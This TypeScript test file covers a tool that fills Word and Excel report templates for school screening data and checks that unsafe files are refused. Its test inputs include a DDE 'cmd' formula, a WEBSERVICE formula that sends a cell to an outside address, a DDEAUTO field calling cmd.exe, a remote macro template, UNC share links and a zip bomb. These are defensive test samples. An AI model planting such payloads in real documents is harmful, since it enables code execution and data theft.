/** Forms of a bureau are read and filled; what other readers find in them is what was written. */
import { read } from '@e965/xlsx';
import {
  type FilledForm,
  type FormValues,
  formContentText,
  formFormulaText,
  formRowText,
} from '@spine/contract/report';
import PizZip from 'pizzip';
import { describe, expect, it } from 'vitest';
import { xlsxBomb } from '#platform/spreadsheet/xlsx/xlsx.factory.ts';
import { docxOf, docxText, withPart, xlsxFormOf } from '../report-form.factory.ts';
import { fillDocxForm, readDocxForm } from './docx-form.ts';
import { fillXlsxForm } from './fill-xlsx-form.ts';
import { openForm, toRefusal } from './form-parts.ts';
import { readXlsxForm } from './read-xlsx-form.ts';
import { readFormBook } from './xlsx-book.ts';

const count = (number: number) => ({ text: String(number), number });
const school = (name: string, owed: number): FormValues => ({
  学校名称: { text: name },
  应检: count(owed),
  检出率: { text: '5.73', number: 5.73, isRate: true },
});
const VALUES: FilledForm = {
  whole: {
    学年: { text: '2026—2027学年' },
    单位名称: { text: '=HYPERLINK("x")&<疾控>' },
    应检: count(30),
    检出率: { text: '5.73', number: 5.73, isRate: true },
  },
  lists: { 学校: [school('甲小学', 10), school('=1+1', 20)], 年级: [] },
};
const ROW = ['{{#学校}}{{学校名称}}', '{{应检}}', '{{检出率}}%{{/学校}}'];

function readFields(bytes: Buffer) {
  const parts = openForm(bytes);
  return parts.kind === 'docx' ? readDocxForm(parts) : readXlsxForm(parts, readFormBook(parts));
}

/** Why a file is refused. */
function refusalOf(bytes: Buffer): { fault: string; sentences: readonly string[] } {
  try {
    const { faults } = readFields(bytes);
    return { fault: 'fields', sentences: faults };
  } catch (error) {
    const { fault, sentences } = toRefusal(error);
    return { fault, sentences };
  }
}

const sheetOf = (bytes: Uint8Array) => {
  const book = read(bytes, { cellFormula: true, sheetStubs: true });
  const sheet = book.Sheets['学校'];
  return {
    book,
    sheet,
    value: (cell: string) => sheet?.[cell]?.v,
    formula: (cell: string) => sheet?.[cell]?.f,
  };
};

describe('a document', () => {
  it('is filled where a field lies in several runs, and a row is repeated for each school', async () => {
    const form = await docxOf([['{{学', '年}}', '：{{单位名称}}']], [['学校', '应检', '率'], ROW]);
    expect(readFields(form)).toEqual({
      uses: [
        { name: '学年', list: null },
        { name: '单位名称', list: null },
        { name: '学校名称', list: '学校' },
        { name: '应检', list: '学校' },
        { name: '检出率', list: '学校' },
      ],
      faults: [],
    });
    const filled = docxText(fillDocxForm(openForm(form), VALUES));
    expect(filled).toEqual([
      '2026—2027学年：=HYPERLINK(&quot;x&quot;)&amp;&lt;疾控&gt;',
      '学校',
      '应检',
      '率',
      '甲小学',
      '10',
      '5.73%',
      '=1+1',
      '20',
      '5.73%',
    ]);
  });

  it('does not take the figure of all where a line of a list has none', async () => {
    const form = await docxOf([], [['{{#学校}}{{学校名称}}', '{{应检}}{{/学校}}']]);
    const values = { ...VALUES, lists: { 学校: [{ 学校名称: { text: '乙小学' } }] } };
    expect(docxText(fillDocxForm(openForm(form), values))).toEqual(['乙小学']);
  });

  it.each([
    [['{{检出律}}'], '“{{检出律}}”不是填写项，是否为“{{检出率}}”'],
    [['{{学校名称}}'], '“{{学校名称}}”须写在'],
    [['{{#学校}}', '{{学校数}}', '{{/学校}}'], '“{{学校数}}”不能写在'],
    [['{{#学校}}', '{{应检}}'], '“{{#学校}}”没有对应的'],
    [['{{应检}}', '{{/学校}}'], '“{{/学校}}”前没有'],
    [['{{应检'], '双花括号不成对'],
    [
      ['{{#学校}}', '{{#年级}}', '{{应检}}', '{{/年级}}', '{{/学校}}'],
      '“{{#年级}}”不能写在另一个列表里',
    ],
    [['{{@应检}}'], '不是填写项'],
    [['{{^学校}}', '{{应检}}', '{{/学校}}'], '不是填写项'],
  ])('with the faulty fields %j is refused by name', async (paragraphs, sentence) => {
    const { fault, sentences } = refusalOf(await docxOf(paragraphs));
    expect(fault).toBe('fields');
    expect(sentences.join()).toContain(sentence);
  });
});

describe('a workbook', () => {
  const FORM = [
    ['{{单位名称}}{{学年}}', null, null],
    ['学校', '应检', '检出率'],
    ROW,
    ['合计', { formula: 'SUM(B3:B3)' }, { formula: 'B4*2' }],
    ['全部', '{{应检}}', null],
  ] as const;

  it('repeats a row for each school, and moves merged cells and sums below', async () => {
    const form = await xlsxFormOf(FORM, [
      [0, 0, 2],
      [4, 1, 2],
    ]);
    expect(readFields(form).faults).toEqual([]);
    const { sheet, value, formula } = sheetOf(fillXlsxForm(openForm(form), VALUES));
    expect([value('A3'), value('B3'), value('C3')]).toEqual(['甲小学', 10, '5.73%']);
    expect([value('A4'), value('B4')]).toEqual(['=1+1', 20]);
    expect(formula('A4') ?? '').toBe('');
    expect(formula('B5')).toBe('SUM(B3:B4)');
    expect(formula('C5')).toBe('B5*2');
    expect(value('B6')).toBe(30);
    expect(value('A1')).toBe('=HYPERLINK("x")&<疾控>2026—2027学年');
    expect(sheet?.['!merges']?.map(({ s, e }) => [s.r, s.c, e.r, e.c])).toEqual([
      [0, 0, 0, 2],
      [5, 1, 5, 2],
    ]);
  });

  it('adds up all schools where one cell was pointed at, and tells what means one of them', async () => {
    const form = await xlsxFormOf([
      ROW,
      [null, { formula: 'SUM(B1)' }],
      [null, { formula: 'B1*2' }],
    ]);
    expect(refusalOf(form).sentences).toEqual([`学校 B3：${formRowText.oneOfMany}`]);
    const right = await xlsxFormOf([ROW, [null, { formula: 'SUM(B1)' }]]);
    expect(refusalOf(right).sentences).toEqual([]);
    expect(sheetOf(fillXlsxForm(openForm(right), VALUES)).formula('B3')).toBe('SUM(B1:B2)');
  });

  it('moves a break between pages, and leaves one between columns', async () => {
    const breaks = (of: string) =>
      `<${of}Breaks count="1" manualBreakCount="1"><brk id="8" max="9" man="1"/></${of}Breaks>`;
    const form = withPart(await xlsxFormOf([ROW]), 'xl/worksheets/sheet1.xml', (xml) =>
      xml.replace('</worksheet>', `${breaks('row')}${breaks('col')}</worksheet>`),
    );
    const { contents } = openForm(Buffer.from(fillXlsxForm(openForm(form), VALUES)));
    const xml = new TextDecoder().decode(contents.get('xl/worksheets/sheet1.xml'));
    expect(xml).toMatch(/<rowBreaks[^>]*><brk id="9"/);
    expect(xml).toMatch(/<colBreaks[^>]*><brk id="8"/);
  });

  it('keeps an empty row where a list has no lines', async () => {
    const form = await xlsxFormOf([['{{#年级}}{{年级名称}}', '{{应检}}{{/年级}}'], ['以上']]);
    const { value } = sheetOf(fillXlsxForm(openForm(form), VALUES));
    expect([value('A1') ?? '', value('B1') ?? '', value('A2')]).toEqual(['', '', '以上']);
  });

  it.each([
    ['=cmd|" /c calc"!A0', 'cmd|"/c calc"!A0'],
    ['another book', '[1]Sheet1!A1'],
    ['the network', 'WEBSERVICE("http://a/"&A1)'],
    ['a link', 'HYPERLINK("http://a/",A1)'],
    ['any cell', 'INDIRECT("A1")'],
  ])('with a formula that reads %s is refused with its cell', async (_of, formula) => {
    const form = await xlsxFormOf([['{{应检}}', { formula }]]);
    expect(refusalOf(form)).toEqual({
      fault: 'formulas',
      sentences: [`学校 B1：${formFormulaText.unsafe}`],
    });
  });

  it('with a field in a formula is refused', async () => {
    const form = await xlsxFormOf([[{ formula: '"{{应检}}"&A2' }]]);
    expect(refusalOf(form).sentences).toEqual([`学校 A1：${formFormulaText.inField}`]);
  });

  it('with the marks of a list in two rows is refused', async () => {
    const form = await xlsxFormOf([['{{#学校}}{{学校名称}}'], ['{{/学校}}']]);
    expect(refusalOf(form).sentences.join()).toContain('须写在同一行');
  });
});

describe('a file that acts by itself', () => {
  const relation =
    (type: string, target: string, mode = '') =>
    (text: string) =>
      text.replace(
        '</Relationships>',
        `<Relationship Id="rIdX" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}"${mode}/></Relationships>`,
      );
  const RELS = 'word/_rels/document.xml.rels';
  const OUTSIDE = ' TargetMode="External"';
  const asMacro = (text: string) =>
    text.replaceAll(
      'officedocument.wordprocessingml.document.main',
      'ms-word.document.macroEnabled.main',
    );
  const field = (code: string) => (text: string) =>
    text.replace(
      '<w:body>',
      `<w:body><w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText>${code.slice(0, 3)}</w:instrText></w:r><w:r><w:instrText>${code.slice(3)}</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`,
    );

  it.each([
    [
      'a macro',
      { part: 'word/vbaProject.bin', change: () => 'x', sentence: formContentText.macro },
    ],
    [
      'a macro as its type',
      { part: '[Content_Types].xml', change: asMacro, sentence: formContentText.macro },
    ],
    [
      'an object',
      { part: 'word/embeddings/a.bin', change: () => 'x', sentence: formContentText.embedded },
    ],
    [
      'a template elsewhere',
      {
        part: RELS,
        change: relation('attachedTemplate', 'http://a/b.dotm', OUTSIDE),
        sentence: formContentText.external,
      },
    ],
    [
      'a picture elsewhere',
      {
        part: RELS,
        change: relation('image', 'http://a/b.png', OUTSIDE),
        sentence: formContentText.external,
      },
    ],
    [
      'a link to a share',
      {
        part: RELS,
        change: relation('hyperlink', 'file:///\\\\a\\b', OUTSIDE),
        sentence: formContentText.external,
      },
    ],
    [
      'another document',
      { part: RELS, change: relation('aFChunk', 'a.xml'), sentence: formContentText.embedded },
    ],
    [
      'a field in pieces',
      {
        part: 'word/document.xml',
        change: field('DDEAUTO c:\\cmd.exe'),
        sentence: formContentText.field('DDEAUTO c:\\cmd.exe'),
      },
    ],
    [
      'a field that opens a share',
      {
        part: 'word/document.xml',
        change: field('HYPERLINK \\o "https://a.cn" "\\\\\\\\a\\\\b"'),
        sentence: formContentText.field(
          'HYPERLINK \\o "https://a.cn" "\\\\\\\\a\\\\b"'.slice(0, 20),
        ),
      },
    ],
  ])('by %s is refused', async (_by, { part, change, sentence }) => {
    const form = withPart(await docxOf(['{{应检}}']), part, change);
    expect(refusalOf(form)).toEqual({ fault: 'activeContent', sentences: [sentence] });
  });

  it('may count its pages and link to an address', async () => {
    const plain = await docxOf(['{{应检}}']);
    const linked = withPart(plain, RELS, relation('hyperlink', 'https://a.cn/', OUTSIDE));
    for (const code of [
      ' PAGE ',
      'HYPERLINK "https://a.cn/" \\o "a"',
      ' HYPERLINK \\l "_Toc1" \\h ',
    ])
      expect(refusalOf(withPart(linked, 'word/document.xml', field(code))).sentences).toEqual([]);
  });
});

describe('a file that is none', () => {
  it.each([
    ['nothing', Buffer.alloc(0), 'fileType'],
    ['a text', Buffer.from('{{应检}}'), 'fileType'],
    ['an old or a locked one', Buffer.from('d0cf11e0a1b11ae1', 'hex'), 'fileLocked'],
    ['half a zip', Buffer.from('PK\u0003\u0004half of a zip, and no more of it'), 'fileDamaged'],
    ['another zip', new PizZip().file('a.txt', 'a').generate({ type: 'nodebuffer' }), 'fileType'],
  ])('%s is refused by what it is', (_what, bytes, fault) => {
    expect(refusalOf(bytes).fault).toBe(fault);
  });

  it('a file that unpacks to too much is refused unread', () => {
    expect(refusalOf(xlsxBomb(100 << 20)).fault).toBe('fileTooLarge');
  });

  it('a document type is refused', async () => {
    const form = withPart(await docxOf(['{{应检}}']), 'word/document.xml', (text) =>
      text.replace(/^<\?xml[^>]*\?>/, '$&<!DOCTYPE a [<!ENTITY b "c">]>'),
    );
    expect(refusalOf(form).fault).toBe('fileDamaged');
  });
});
